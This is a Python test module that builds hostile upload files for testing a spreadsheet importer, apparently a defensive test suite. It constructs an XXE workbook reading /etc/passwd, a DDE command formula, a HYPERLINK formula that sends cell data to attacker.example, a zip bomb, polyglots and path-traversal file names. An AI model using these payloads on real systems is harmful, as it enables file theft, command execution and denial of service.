"""The hostile-input corpus: small items are files in ``corpus/``, large or binary ones are
built here at test time (a zip bomb is 200 MB once inflated, and must not sit in the
repository).

Each item is a ``Hostile``: a name for the test id, the file name the client claims, its
media type and its bytes.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

CORPUS = Path(__file__).parent / "corpus"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    content_type: str
    content: bytes


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="SoA" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _xlsx(sheet: bytes) -> bytes:
    """A minimal workbook whose only sheet is ``sheet`` (raw XML)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return out.getvalue()


def _row(number: int, *cells: str) -> str:
    return f'<row r="{number}">' + "".join(cells) + "</row>"


def _text(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _sheet(rows: str, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        + doctype
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


HEADER = _row(1, _text("A1", "control_id"), _text("B1", "applicable"), _text("C1", "justification"))


def xxe_xlsx() -> bytes:
    """A sheet that pulls /etc/passwd into a cell through an external entity."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = HEADER + _row(2, _text("A2", "A.5.1"), _text("B2", "yes"), _text("C2", "&xxe;"))
    return _xlsx(_sheet(rows, doctype))


def formula_xlsx() -> bytes:
    """Formula cells where the importer expects text (DDE and HYPERLINK exfiltration)."""
    rows = HEADER + _row(
        2,
        "<c r=\"A2\"><f>cmd|' /C calc'!A0</f></c>",
        _text("B2", "yes"),
        '<c r="C2"><f>HYPERLINK("https://attacker.example/?"&amp;A1)</f></c>',
    )
    return _xlsx(_sheet(rows))


def zip_bomb_xlsx(inflated: int = 200 * 1024 * 1024) -> bytes:
    """A workbook whose sheet inflates to ``inflated`` bytes (about 200 KB on the wire)."""
    chunk = b"<row/>" * (1024 * 1024 // 6)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            remaining = inflated
            while remaining > 0:
                piece = chunk[: min(len(chunk), remaining)]
                member.write(piece)
                remaining -= len(piece)
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF start with a valid XLSX (zip) behind it: readers of either format accept it."""
    pdf = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return pdf + formula_xlsx()


def corpus(oversized: int) -> list[Hostile]:
    """Every hostile item, ``oversized`` being the size of the item past the upload limit."""
    files = {p.name: p.read_bytes() for p in CORPUS.iterdir() if p.is_file()}
    return [
        Hostile("traversal-name", "../../../../etc/cron.d/annexa", "text/plain", b"* * * * * id\n"),
        Hostile("windows-traversal-name", "..\\..\\..\\boot.ini", "text/plain", b"[boot]\n"),
        Hostile("zip-bomb", "soa.xlsx", XLSX, zip_bomb_xlsx()),
        Hostile("xxe-xlsx", "soa.xlsx", XLSX, xxe_xlsx()),
        Hostile("formula-xlsx", "soa.xlsx", XLSX, formula_xlsx()),
        Hostile("formula-csv", "soa.csv", "text/csv", files["formula-cells.csv"]),
        Hostile("pdf-zip-polyglot", "report.pdf", "application/pdf", pdf_zip_polyglot()),
        Hostile("polyglot-as-xlsx", "soa.xlsx", XLSX, pdf_zip_polyglot()),
        Hostile("gif-js", "pixel.gif", "image/gif", files["gif-js.gif"]),
        Hostile("svg-script", "diagram.svg", "image/svg+xml", files["svg-script.svg"]),
        Hostile("html-script", "report.html", "text/html", files["html-script.html"]),
        Hostile("xccdf-entities", "results.xml", "application/xml", files["xccdf-entities.xml"]),
        Hostile("oversized", "big.xlsx", XLSX, b"\0" * oversized),
    ]
